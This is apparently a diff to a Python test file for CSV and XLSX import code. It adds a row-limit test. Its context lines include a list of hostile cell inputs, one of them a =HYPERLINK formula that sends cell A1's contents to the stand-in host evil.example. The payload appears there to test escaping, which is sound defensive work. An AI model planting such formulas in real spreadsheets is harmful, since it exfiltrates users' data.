@@ -15,7 +15,9 @@ from hypothesis import strategies as st
 
 from adapters.files import read_table, write_table
 from adapters.files.cells import escape_cell, unescape_cell
+from adapters.files.limits import FileLimits
 from adapters.files.xlsxfile import write_xlsx
+from commplan.errors import ImportRejected
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"Click for the standard")',
@@ -103,3 +105,11 @@ def test_any_text_survives_a_csv_round_trip(cells: list[str]) -> None:
         path = Path(folder) / "round.csv"
         path.write_bytes(content)
         assert [dict(r.values) for r in read_table(path).rows] == rows
+
+
+def test_a_csv_longer_than_the_row_limit_stops_there(tmp_path: Path) -> None:
+    path = tmp_path / "contacts.csv"
+    path.write_text("date,name\n" + "2015-03-02,Jane Smith\n" * 5, encoding="utf-8")
+    assert len(read_table(path, limits=FileLimits(max_rows=5)).rows) == 5
+    with pytest.raises(ImportRejected, match=r"contacts.csv, row 5: more than 3 rows"):
+        read_table(path, limits=FileLimits(max_rows=3))
